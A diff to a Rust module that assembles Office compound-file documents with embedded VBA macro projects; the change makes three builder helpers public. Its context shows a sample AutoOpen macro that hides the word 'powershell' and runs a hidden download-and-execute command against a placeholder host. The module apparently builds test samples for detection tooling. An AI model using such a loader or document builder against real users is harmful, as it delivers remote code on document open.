@@ -15,7 +15,7 @@ use crate::containers::job;
 const LOADER: &str = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n    Dim c As String\r\n    c = \"power\" & \"shell -w hidden -c \"\"iwr https://lure.invalid/x | iex\"\"\"\r\n    Shell c, vbHide\r\nEnd Sub\r\n";
 
 /// Bytes as they are, in chunks of the format ([MS-OVBA] 2.4.1).
-fn packed(text: &[u8]) -> Vec<u8> {
+pub fn packed(text: &[u8]) -> Vec<u8> {
     let mut out = vec![1];
     for chunk in text.chunks(3_600) {
         let data: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0], eight].concat()).collect();
@@ -26,7 +26,7 @@ fn packed(text: &[u8]) -> Vec<u8> {
 }
 
 /// The directory of a project: what stands before the modules, then each with its stream and the place of its source.
-fn directory(modules: &[(&str, u32)]) -> Vec<u8> {
+pub fn directory(modules: &[(&str, u32)]) -> Vec<u8> {
     let record = |id: u16, data: &[u8]| [&id.to_le_bytes()[..], &(data.len() as u32).to_le_bytes(), data].concat();
     let mut out = [record(1, &[3, 0, 0, 0]), record(4, b"VBAProject")].concat();
     // The version says four bytes and has six.
@@ -41,7 +41,7 @@ fn directory(modules: &[(&str, u32)]) -> Vec<u8> {
 }
 
 /// A document with these streams in its project.
-fn document(streams: &[(&str, &[u8])]) -> Vec<u8> {
+pub fn document(streams: &[(&str, &[u8])]) -> Vec<u8> {
     let mut file = cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new())).expect("memory");
     file.create_storage("/Macros").expect("memory");
     file.create_storage("/Macros/VBA").expect("memory");
